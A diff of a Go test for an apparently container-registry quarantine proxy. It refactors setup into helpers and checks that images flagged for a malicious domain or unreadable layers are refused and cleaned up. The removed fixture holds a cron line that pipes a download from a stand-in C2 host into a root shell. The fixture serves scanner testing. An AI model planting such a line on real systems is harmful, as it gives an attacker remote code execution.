@@ -3,7 +3,6 @@ package main
 import (
 	"errors"
 	"net/http"
-	"os"
 	"path/filepath"
 	"regexp"
 	"strings"
@@ -20,33 +19,11 @@ import (
 // is fetched for that; what a person rejects is gone from the store.
 func TestQuarantineEnds(t *testing.T) {
 	hub := startHub(t)
-	listed, err := testimage.Build(testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{
-		{Path: "etc/cron.d/job", Body: []byte("* * * * * root curl -s https://c2.known-bad.net/run | sh\n")},
-	}}}})
-	if err != nil {
-		t.Fatal(err)
-	}
-	spec := testimage.Clean("rejected", 64<<10)
-	spec.Layers[1].Raw = []byte("no archive of any kind")
-	odd, err := testimage.Build(spec)
-	if err != nil {
-		t.Fatal(err)
-	}
-	for name, img := range map[string]testimage.Image{"acme/listed": listed, "acme/odd": odd} {
-		if err := hub.Push(t.Context(), name, "1", img); err != nil {
-			t.Fatal(err)
-		}
-	}
+	listed, odd := publish(t, hub, fetchesFrom("c2.known-bad.net"), "acme/listed:1"), publish(t, hub, unreadable("rejected"), "acme/odd:1")
 	folder := t.TempDir()
 	list, rules := filepath.Join(folder, "list"), filepath.Join(folder, "policy.yaml")
-	write := func(file, text string) {
-		t.Helper()
-		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
-			t.Fatal(err)
-		}
-	}
-	write(list, "known-bad.net\n")
-	write(rules, `rules:
+	writeFile(t, list, "known-bad.net\n")
+	writeFile(t, rules, `rules:
   - {name: held, when: 'finding.rule == "domain/malicious" || finding.category == "uninspectable"', action: quarantine}
 `)
 	r := newReplica(t, "LAZARET_UPSTREAM="+hub.URL(), "LAZARET_MANIFEST_WAIT=15s", "LAZARET_POLICY="+rules, "LAZARET_FEEDS=malicious-domain="+list)
@@ -54,16 +31,7 @@ func TestQuarantineEnds(t *testing.T) {
 		if status, body := r.get(t, "/v2/"+name+"/manifests/1"); status != http.StatusForbidden || !strings.Contains(body, "in quarantine") {
 			t.Fatalf("%s: %d %.200s", name, status, body)
 		}
-		within(t, time.Minute, "the downloads that the refusal left behind", func() bool {
-			for d := range img.Blobs {
-				if f, _, err := r.blobs.Open(t.Context(), d); err != nil {
-					return false
-				} else if err := f.Close(); err != nil {
-					t.Error(err)
-				}
-			}
-			return true
-		})
+		r.settled(t, img)
 	}
 	if err := r.records.Flush(t.Context()); err != nil {
 		t.Fatal(err)
@@ -74,7 +42,7 @@ func TestQuarantineEnds(t *testing.T) {
 		t.Fatalf("not in quarantine:\n%s", r.lazaret(t, "quarantine", "list"))
 	}
 
-	write(list, "other.net\n")
+	writeFile(t, list, "other.net\n")
 	if !r.feeds.Refresh(t.Context()) {
 		t.Fatal("the feed did not change")
 	}
